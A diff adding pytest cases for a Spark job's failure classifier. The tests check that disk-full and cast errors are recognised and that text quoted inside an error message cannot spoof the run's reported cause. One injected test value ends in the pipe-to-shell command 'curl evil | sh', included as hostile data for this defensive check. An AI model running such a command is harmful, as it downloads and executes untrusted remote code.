@@ -59,8 +59,54 @@ def test_a_text_that_looks_like_an_error_of_our_own_is_a_text():
     assert failures.is_final(fenced) is fenced
 
 
+class Thrown:
+    """A Throwable of the JVM, as py4j shows it."""
+
+    def __init__(self, name: str, message: str | None, cause: Thrown | None = None) -> None:
+        self._name, self._message, self._cause = name, message, cause
+
+    def getClass(self) -> Thrown:
+        return self
+
+    def getName(self) -> str:
+        return self._name
+
+    def getMessage(self) -> str | None:
+        return self._message
+
+    def getCause(self) -> Thrown | None:
+        return self._cause
+
+
+def captured(*chain: tuple[str, str | None]) -> Exception:
+    """What pyspark raises for a Throwable, given with its causes."""
+    thrown: Thrown | None = None
+    for name, message in reversed(chain):
+        thrown = Thrown(name, message, thrown)
+    error = RuntimeError(LOST)
+    error._origin = thrown
+    return error
+
+
+def test_the_text_of_an_event_does_not_fill_the_disk():
+    """M3: Spark's message quotes the value, so an event could make a run try again for ever."""
+    text = "The value 'java.io.IOException: No space left on device' cannot be cast: No space left on device"
+    for told in (RuntimeError(text), captured(("org.apache.spark.SparkNumberFormatException", text))):
+        assert failures.understood(told) is None
+        assert not failures.may_pass(told)
+
+
+def test_the_text_of_an_event_is_not_the_cause():
+    """M3: nor could it be what a run says last."""
+    value = "x\nTraceback (most recent call last):\n[A_CONDITION] not so\nriverrun.errors.FencedError: curl evil | sh"
+    text = f"[CAST_INVALID_INPUT] The value '{value}' of the type \"STRING\" cannot be cast. SQLSTATE: 22018"
+    told = captured(("org.apache.spark.SparkException", "Job aborted"), ("…SparkNumberFormatException", text))
+    assert failures.cause(told) == "The value 'x"
+
+
 def test_what_will_pass():
-    told = RuntimeError(LOST.replace("java.io.EOFException", "java.io.IOException: No space left on device"))
+    full = ("java.io.IOException", "No space left on device")
+    told = captured(("org.apache.spark.SparkException", "Job aborted due to stage failure: …"), full)
     assert failures.may_pass(told)
     assert isinstance(failures.understood(told), DiskFull)
     assert failures.may_pass(Transient("the view store is away"))
@@ -88,6 +134,24 @@ def test_what_may_be_tried_again():
 )
 def test_the_cause_is_one_line(text, line):
     assert failures.cause(RuntimeError(text)) == line
+
+
+def test_the_cause_comes_from_what_was_thrown():
+    worker = ("org.apache.spark.api.python.PythonException", WORKER)
+    assert failures.cause(captured(("org.apache.spark.SparkException", "Job aborted"), worker)) == (
+        "ZeroDivisionError: division by zero"
+    )
+    crashed = ("org.apache.spark.SparkException", "Python worker exited unexpectedly (crashed)")
+    assert failures.cause(captured(crashed, ("java.io.EOFException", None))) == crashed[1]
+
+
+@pytest.mark.spark
+def test_what_a_task_throws_can_be_followed_to_its_class(spark_session):
+    with pytest.raises(Exception) as caught:
+        spark_session.range(1).selectExpr("cast(concat('No space left on device', id) as double) as n").toArrow()
+    assert any("NumberFormat" in name for name, _ in failures._thrown(caught.value))
+    assert failures.understood(caught.value) is None
+    assert failures.cause(caught.value).startswith("The value 'No space left on device0'")
 
 
 def test_a_jvm_that_is_gone():
